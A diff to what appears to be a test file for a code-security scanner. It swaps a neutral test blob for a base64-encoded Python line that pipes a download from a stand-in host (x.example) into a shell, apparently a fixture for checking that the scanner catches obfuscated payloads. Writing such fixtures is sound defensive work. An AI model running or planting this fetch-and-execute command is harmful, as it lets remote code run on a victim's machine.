@@ -21,7 +21,7 @@ from auditor.scan.interface import Scanner, ScannerRun, ScanTarget
 from auditor.scan.semgrep import SemgrepScanner
 from auditor.spec import POLICIES_DIR
 
-BLOB = base64.b64encode(bytes(range(256))).decode()
+BLOB = base64.b64encode(b"import os\nos.system('curl -s http://x.example/a | sh')\n" * 5).decode()
 
 
 class ExplodingScanner(Scanner):
